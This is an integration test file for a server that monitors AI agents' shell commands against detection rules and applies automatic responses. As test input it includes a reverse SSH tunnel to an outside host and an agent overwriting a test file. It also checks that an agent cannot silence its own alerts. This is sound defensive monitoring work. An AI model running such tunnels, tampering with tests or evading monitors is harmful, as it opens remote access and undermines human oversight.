// Rules as operators keep them, on a real server: real PostgreSQL, real sign-ins; what is changed is in force at once and after a restart.
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { connectProbe } from './probe-by-hand.test-fixture.ts'
import type { ControlView } from './protocol/control-views.ts'
import type { FlagView } from './protocol/flag-view.ts'
import type { BacktestView, RuleCheckView, RuleDetailView, RuleDocumentView, RuleView } from './protocol/rule-view.ts'
import { startForTest, type TestServer } from './start-for-test.ts'

let server: TestServer
beforeAll(async () => {
  server = await startForTest()
})
afterAll(async () => {
  await server.stop()
})

type Problem = { title: string; detail: string; problems?: { line: number; message: string }[] }
type Answer<T> = { status: number; body: T & Problem }

async function call<T = object>(method: string, path: string, body?: object): Promise<Answer<T>> {
  const answer = await server.api(path, {
    method,
    headers: { 'content-type': 'application/json' },
    ...(body && { body: JSON.stringify(body) }),
  })
  return { status: answer.status, body: (await answer.json()) as T & Problem }
}
async function until<T>(read: () => Promise<T>, isGood: (value: T) => boolean): Promise<T> {
  for (let tries = 0; ; tries += 1) {
    const value = await read()
    if (isGood(value) || tries > 200) return value
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}
let calls = 0
const ran = (session: string, command: string) => ({
  v: 1,
  kind: 'action.started',
  atMs: Date.now(),
  session,
  data: { call: `c${++calls}`, tool: 'bash', input: JSON.stringify({ command }) },
})
async function tell(...events: object[]): Promise<void> {
  const body = events.map((event) => JSON.stringify(event)).join('\n')
  const answer = await server.api('/api/ingest/events', { method: 'POST', body })
  expect(await answer.json()).toMatchObject({ accepted: events.length, rejected: 0 })
}
const flagsOf = async (session: string, rule?: string) =>
  (await call<{ flags: FlagView[] }>('GET', `/api/flags?session=${session}`)).body.flags.filter(
    (flag) => rule === undefined || flag.rule === rule,
  )
const ruleOf = async (id: string) => (await call<RuleDetailView>('GET', `/api/rules/${encodeURIComponent(id)}`)).body
/** Judging is done when a command that came later, and always raises a flag, is flagged. */
async function judged(): Promise<void> {
  const session = `after-${++calls}`
  await tell(ran(session, 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'))
  await until(
    () => flagsOf(session),
    (flags) => flags.length > 0,
  )
}

const id = '11111111-2222-4333-8444-555555555555'
const name = 'console/frobnicate.yml'
const ruleText = (word: string, level = 'medium') => `title: Runs ${word}
id: ${id}
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: '/${word}'}
  condition: selection
level: ${level}
`

describe('a rule written in the console', () => {
  it('is checked before it is kept: a mistake is told with its line, and nothing changes', async () => {
    const wrong = ruleText('frobnicate').replace('endswith', 'wherever')
    const checked = await call<RuleCheckView>('POST', '/api/rule-documents/check', { name, text: wrong })
    expect(checked.body.problems).toEqual([expect.objectContaining({ line: 5 })])
    const saved = await call('PUT', '/api/rule-documents', { name, text: wrong, base: 0 })
    expect(saved).toMatchObject({ status: 422, body: { problems: [{ line: 5 }] } })
    expect((await call('GET', `/api/rules/${id}`)).status).toBe(404)
  })

  it('says of a SigmaHQ rule which construct is not supported, and does not keep it as if it ran', async () => {
    const windows = ruleText('frobnicate').replace('product: linux', 'product: windows')
    const checked = await call<RuleCheckView>('POST', '/api/rule-documents/check', { name, text: windows })
    expect(checked.body.problems[0]?.construct).toContain('windows')
    expect((await call('PUT', '/api/rule-documents', { name, text: windows, base: 0 })).status).toBe(422)
  })

  it('is in force as soon as it is kept', async () => {
    const saved = await call('PUT', '/api/rule-documents', {
      name,
      text: ruleText('frobnicate'),
      base: 0,
      note: 'first',
    })
    expect(saved).toMatchObject({ status: 200, body: { version: 1, rules: [id] } })
    await tell(ran('ep-1', 'sudo frobnicate --now'))
    const flags = await until(
      () => flagsOf('ep-1', id),
      (found) => found.length > 0,
    )
    expect(flags).toMatchObject([{ title: 'Runs frobnicate', severity: 'medium' }])
    expect((await ruleOf(id)).rule).toMatchObject({ origin: 'console', isEnabled: true, flags: 1, sessions: 1 })
  })

  it('is not overwritten by somebody who did not see the newest version', async () => {
    const stale = await call('PUT', '/api/rule-documents', { name, text: ruleText('other'), base: 0 })
    expect(stale).toMatchObject({ status: 409, body: { title: 'Changed in between' } })
    expect(stale.body.detail).toContain('version 1')
  })

  it('keeps every version with its author and note, and each can be read again', async () => {
    await call('PUT', '/api/rule-documents', { name, text: ruleText('frobnicate', 'high'), base: 1, note: 'louder' })
    const { body } = await call<RuleDocumentView>('GET', `/api/rule-documents/text?name=${name}`)
    expect(body).toMatchObject({
      version: 2,
      versions: [
        { version: 2, note: 'louder' },
        { version: 1, note: 'first' },
      ],
    })
    const first = await call<RuleDocumentView>('GET', `/api/rule-documents/text?name=${name}&version=1`)
    expect(first.body.text).toBe(ruleText('frobnicate'))
  })

  it('may be as long as a text may be: it is checked, tried on the log, kept and opened, but not from who may only read', async () => {
    const long = {
      name: 'console/long.yml',
      text: `${ruleText('longword').replace(id, randomUUID())}${'# why\n'.repeat(20_000)}`,
    }
    expect(long.text.length).toBeGreaterThan(100_000)
    const readKey = await call<{ key: string }>('POST', '/api/keys', { name: 'reader', scopes: ['read'] })
    const refused = await server.api('/api/rule-documents/check', {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${readKey.body.key}` },
      body: JSON.stringify(long),
    })
    expect(refused.status).toBe(413)
    expect(await call('POST', '/api/rule-documents/check', long)).toMatchObject({ status: 200, body: { problems: [] } })
    expect((await call('POST', '/api/backtests', { ...long, hours: 1 })).status).toBe(202)
    expect(await call('PUT', '/api/rule-documents', { ...long, base: 0 })).toMatchObject({ status: 200 })
    const { body } = await call<RuleDocumentView>('GET', `/api/rule-documents/text?name=${long.name}`)
    expect(body.text).toBe(long.text)
    expect((await call('DELETE', `/api/rule-documents?name=${long.name}&base=1`)).status).toBe(200)
  })

  it('cannot take the id of a rule that runs elsewhere', async () => {
    const { rules } = (await call<{ rules: RuleView[] }>('GET', '/api/rules')).body
    const ofPack = rules.find((rule) => rule.origin === 'pack')
    const text = ruleText('frobnicate').replace(id, ofPack?.id ?? '')
    const checked = await call<RuleCheckView>('POST', '/api/rule-documents/check', { name: 'console/twin.yml', text })
    expect(checked.body.problems[0]?.message).toContain(ofPack?.document)
  })

  it('has a name that stays within its place', async () => {
    for (const bad of ['console/../pack/x.yml', '/etc/passwd', 'console/a b.yml', 'other/x.yml'])
      expect((await call('PUT', '/api/rule-documents', { name: bad, text: ruleText('x'), base: 0 })).status).toBe(422)
  })
})

describe('a rule of our pack', () => {
  it('can be edited and given back: the text of the console stands over the file, and can be taken away', async () => {
    const { rules } = (await call<{ rules: RuleView[] }>('GET', '/api/rules')).body
    const rule = rules.find((each) => each.origin === 'pack' && each.behaviour === 'tunnel')
    const document = rule?.document ?? ''
    const opened = (await call<RuleDocumentView>('GET', `/api/rule-documents/text?name=${document}`)).body
    expect(opened).toMatchObject({ origin: 'pack', version: 0, versions: [] })
    const text = opened.text.replace(/^title: .*$/m, 'title: Our own words for it')
    expect((await call('PUT', '/api/rule-documents', { name: document, text, base: 0 })).status).toBe(200)
    expect((await ruleOf(rule?.id ?? '')).rule).toMatchObject({ title: 'Our own words for it', isEdited: true })
    expect((await call('DELETE', `/api/rule-documents?name=${document}&base=1`)).status).toBe(200)
    expect((await ruleOf(rule?.id ?? '')).rule).toMatchObject({ title: rule?.title, isEdited: false })
    expect((await call('DELETE', `/api/rule-documents?name=${document}&base=2`)).status).toBe(404)
  })

  it('plays its own examples in a check', async () => {
    const { rules } = (await call<{ rules: RuleView[] }>('GET', '/api/rules')).body
    const document = rules.find((each) => each.origin === 'pack')?.document ?? ''
    const { text } = (await call<RuleDocumentView>('GET', `/api/rule-documents/text?name=${document}`)).body
    const { examples } = (await call<RuleCheckView>('POST', '/api/rule-documents/check', { name: document, text })).body
    expect(examples.length).toBeGreaterThan(1)
    expect(examples.every(({ isAsExpected }) => isAsExpected)).toBe(true)
  })
})

describe('what is set beside a rule', () => {
  it('turns it off and on again without touching its text', async () => {
    expect((await call('PUT', `/api/rules/${id}/settings`, { isEnabled: false })).status).toBe(200)
    await tell(ran('ep-off', 'frobnicate'))
    await judged()
    expect(await flagsOf('ep-off', id)).toEqual([])
    await call('PUT', `/api/rules/${id}/settings`, { isEnabled: true })
    await tell(ran('ep-on', 'frobnicate'))
    expect(
      await until(
        () => flagsOf('ep-on', id),
        (flags) => flags.length > 0,
      ),
    ).toHaveLength(1)
  })

  it('excepts one host for a time: what pages becomes informational there, with the reason, and nowhere else', async () => {
    const when = [{ field: 'session', how: 'equals', value: 'ep-mine' }]
    const request = { when, why: 'our own tool', expiresAtMs: Date.now() + 3_600_000 }
    const made = await call<RuleDetailView>('POST', `/api/rules/${id}/exceptions`, request)
    expect(made).toMatchObject({
      status: 201,
      body: { rule: { exceptions: 1 }, exceptions: [{ why: 'our own tool' }] },
    })
    await tell(ran('ep-mine', 'frobnicate'), ran('ep-theirs', 'frobnicate'))
    await judged()
    expect(await flagsOf('ep-mine', id)).toMatchObject([{ severity: 'informational', ruleSeverity: 'high' }])
    expect((await flagsOf('ep-mine', id))[0]?.context.join()).toContain('our own tool')
    expect(await flagsOf('ep-theirs', id)).toMatchObject([{ severity: 'high' }])
    const exception = made.body.exceptions[0]?.id
    expect((await call('DELETE', `/api/rules/${id}/exceptions/${exception}`)).body).toMatchObject({ exceptions: [] })
  })

  it('refuses an exception that is over, that stands for ever or that could never hold', async () => {
    const request = { when: [{ field: 'session', how: 'equals', value: 'x' }], why: 'because', expiresAtMs: 0 }
    const ask = async (more: object) =>
      (await call('POST', `/api/rules/${id}/exceptions`, { ...request, ...more })).status
    expect(await ask({ expiresAtMs: Date.now() - 1_000 })).toBe(422)
    expect(await ask({ expiresAtMs: Date.now() + 100 * 86_400_000 })).toBe(422)
    const inAnHour = { expiresAtMs: Date.now() + 3_600_000 }
    expect(await ask({ ...inAnHour, when: [{ field: 'Imagge', how: 'equals', value: 'x' }] })).toBe(422)
    expect(await ask({ ...inAnHour, when: [] })).toBe(422)
  })
})

describe('an operator’s verdict', () => {
  it('stands beside the flag, counts for its rule’s precision, and can be changed and taken back', async () => {
    const [one, two] = [...(await flagsOf('ep-1', id)), ...(await flagsOf('ep-theirs', id))]
    const say = (flag: FlagView | undefined, verdict: string | null) =>
      call('POST', `/api/flags/${flag?.id}/verdict`, { verdict, note: 'seen' })
    await say(one, 'true')
    await say(two, 'true')
    await say(two, 'false')
    expect(await flagsOf('ep-theirs', id)).toMatchObject([{ verdict: { verdict: 'false', by: 'VIGIL_KEY' } }])
    expect((await ruleOf(id)).rule.verdicts).toEqual({ true: 1, false: 1, drill: 0 })
    await say(two, null)
    expect((await ruleOf(id)).rule.verdicts).toEqual({ true: 1, false: 0, drill: 0 })
    expect((await flagsOf('ep-theirs', id))[0]?.verdict).toBeUndefined()
    expect((await call('POST', `/api/flags/${randomUUID()}/verdict`, { verdict: 'true' })).status).toBe(404)
  })
})

describe('a backtest', () => {
  const run = async (text: string, document = name) => {
    const { body } = await call<{ id: string }>('POST', '/api/backtests', { name: document, text, hours: 1 })
    const read = async () => (await call<BacktestView>('GET', `/api/backtests/${body.id}`)).body
    return until(read, ({ state }) => state !== 'running')
  }

  it('says what a changed rule would have said of the log beside what it says now, and raises nothing', async () => {
    const before = await flagsOf('ep-off')
    const done = await run(`${ruleText('frobnicate', 'high').replace("'/frobnicate'", "['/ssh', '/frobnicate']")}`)
    expect(done).toMatchObject({ state: 'done', disappearedCount: 0 })
    expect(done.events).toBe(done.ofEvents)
    expect(done.current.flags).toBeGreaterThanOrEqual(4)
    expect(done.edited.flags).toBe(done.current.flags + done.appearedCount)
    expect(done.appeared[0]?.matched.map(({ value }) => value).join()).toContain('ssh')
    expect(await flagsOf('ep-off')).toEqual(before)
  })

  it('shows what would be gone, with what an operator said of it', async () => {
    const done = await run(ruleText('nothing-like-it'))
    expect(done.edited.flags).toBe(0)
    expect(done.disappearedCount).toBe(done.current.flags)
    expect(done.disappeared.find(({ session }) => session === 'ep-1')?.verdict).toBe('true')
  })

  it('of a context shows which flags it would lower', async () => {
    const done = await run(
      'all:\n  rules:\n    - { rule: 11111111-2222-4333-8444-555555555555, to: low, why: it is ours }\n',
      'context.yml',
    )
    expect(done).toMatchObject({ state: 'done' })
    expect(done.edited.pages).toBeLessThan(done.current.pages)
    expect(done.appeared.every(({ rule, severity }) => rule === id && severity === 'low')).toBe(true)
  })

  it('of a policy says which actions it would have held', async () => {
    const text = `rules: [{ name: forbidden, when: { rules: ${id} }, do: ask }, { name: ssh, when: { severity: high }, do: deny }]\n`
    const done = await run(text, 'policy.yml')
    expect(done).toMatchObject({ state: 'done' })
    expect(done.appeared.some(({ rule, session }) => rule === 'forbidden' && session === 'ep-1')).toBe(true)
    expect(done.edited.pages, 'denied').toBeGreaterThan(0)
    expect(done.current.pages).toBe(0)
    expect((await run('rules: [{ name: x }]\n', 'policy.yml')).problem).toContain('line 1')
  })

  it('of a text that cannot run fails with the line', async () => {
    const done = await run(ruleText('x').replace('endswith', 'wherever'))
    expect(done).toMatchObject({ state: 'failed', problem: expect.stringContaining('line 5') })
  })
})

describe('a context', () => {
  it('is in force as soon as it is kept: a protected folder is watched, and the flag says by which line', async () => {
    const text = 'all:\n  protected:\n    - { path: /app/tests, what: tests }\n'
    expect((await call('PUT', '/api/rule-documents', { name: 'context.yml', text, base: 0 })).status).toBe(200)
    await tell(ran('ep-tests', 'echo pass > /app/tests/test_all.py'))
    const flags = await until(
      () => flagsOf('ep-tests', 'vigil-protected-path'),
      (found) => found.length > 0,
    )
    expect(flags).toMatchObject([{ severity: 'high' }])
    expect(flags[0]?.context.join()).toContain('/app/tests is protected')
  })

  it('is not lowered by a run that only the agent says it belongs to', async () => {
    const text = `runs:\n  trusted-run:\n    rules:\n      - { rule: ${id}, to: silent, why: a test of ours }\n`
    expect((await call('PUT', '/api/rule-documents', { name: 'context.yml', text, base: 1 })).status).toBe(200)
    const started = (session: string) => ({
      v: 1,
      kind: 'session.started',
      atMs: Date.now(),
      session,
      data: { held: 'none', abilities: [], labels: { run: 'trusted-run' } },
    })
    await tell(started('ep-trainer'), ran('ep-trainer', 'frobnicate'))
    await judged()
    expect(await flagsOf('ep-trainer', id)).toMatchObject([{ severity: 'informational' }])
  })
})

describe('an automatic response', () => {
  it('asks for a hold that lapses, once for a flood of the same flag, with the rule as its author', async () => {
    await call('PUT', `/api/rules/${id}/settings`, { automatic: { action: 'cut-network', minutes: 5 } })
    const key = (await call<{ key: string }>('POST', '/api/keys', { name: 'h', scopes: ['probe'], host: 'auto-host' }))
      .body
    const abilities = ['pause', 'network', 'end'].map((each) => ({
      name: each,
      can: 'proven',
      enforcer: 'by-hand',
      detail: '',
    }))
    const probe = await connectProbe(server.url, 'auto-host', key.key)
    await probe.hello('by-hand')
    const data = { held: 'cgroup', cgroup: '/vigil/ep-auto', abilities }
    await probe.send('by-hand', 1, [
      { kind: 'probe.connected', data: { version: '1', bootId: 'boot', kernel: '6', abilities, observers: [] } },
      { kind: 'session.started', session: 'ep-auto', data },
    ])
    await tell(ran('ep-auto', 'frobnicate one'), ran('ep-auto', 'frobnicate two'), ran('ep-auto', 'frobnicate three'))
    const controls = async () => (await call<{ controls: ControlView[] }>('GET', '/api/sessions/ep-auto')).body.controls
    await until(controls, (found) => found.length > 0)
    await judged()
    const [asked, ...others] = await controls()
    expect(others).toEqual([])
    expect(asked).toMatchObject({ action: 'revoke', capability: 'network', by: { name: 'rule "Runs frobnicate"' } })
    const { hold } = (await call<{ hold?: { expiresAt: number } }>('GET', `/api/controls/${asked?.control}`)).body
    expect((hold?.expiresAt ?? 0) - Date.now()).toBeGreaterThan(4 * 60_000)
    expect((hold?.expiresAt ?? Number.POSITIVE_INFINITY) - Date.now()).toBeLessThanOrEqual(5 * 60_000)
    expect(asked?.state, 'nothing is claimed before the host was read').not.toBe('enforced')
    expect(probe.wanted.at(-1)).toMatchObject({ session: 'ep-auto', restrict: ['network'] })
    probe.close()
  })
})

describe('after a restart', () => {
  it('texts, settings, verdicts and counts are as they were, and what was silent under the rules of then stays so', async () => {
    const before = await ruleOf(id)
    await server.restart()
    await judged()
    const after = await ruleOf(id)
    expect(after.rule).toEqual(before.rule)
    expect(after.rule.automatic).toEqual({ action: 'cut-network', minutes: 5 })
    expect(after.rule.verdicts.true).toBe(1)
  })
})
